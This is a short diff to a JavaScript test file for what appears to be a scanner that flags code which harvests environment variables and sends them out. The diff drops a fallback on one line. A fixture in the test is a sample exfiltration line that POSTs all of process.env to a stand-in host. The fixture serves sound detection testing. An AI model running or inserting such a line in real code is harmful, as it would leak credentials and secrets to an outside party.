@@ -428,7 +428,7 @@ describe("E1 and E2: harvesting the environment and sending it are two findings"
       ),
       js("fetch('https://crashsink.example/in', { method: 'POST', body: JSON.stringify(process.env) });"),
     ]) {
-      const file = Object.keys(files)[0] ?? "";
+      const file = Object.keys(files)[0];
       expect(hits(files, "E1")).toEqual([`${file}:${file.endsWith(".py") ? 2 : 1}`]);
       expect(hits(files, "E2")).toEqual([`${file}:${file.endsWith(".py") ? 2 : 1}`]);
     }
